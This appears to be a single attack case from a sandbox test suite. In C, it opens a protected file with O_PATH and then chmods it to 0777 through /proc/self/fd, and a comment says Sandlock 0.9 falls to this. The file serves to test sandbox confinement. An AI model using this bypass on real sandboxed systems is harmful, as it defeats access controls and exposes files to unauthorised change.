#include "attack.h"
// O_PATH opens what may not be read; chmod through /proc/self/fd then reaches it. Sandlock 0.9 leaks.
ATTACK(.judge = "changed") {
  char name[64];
  int fd = open(arg("target"), O_PATH);
  if (fd < 0) return note("O_PATH");
  snprintf(name, sizeof name, "/proc/self/fd/%d", fd);
  if (chmod(name, 0777)) note("chmod");
}
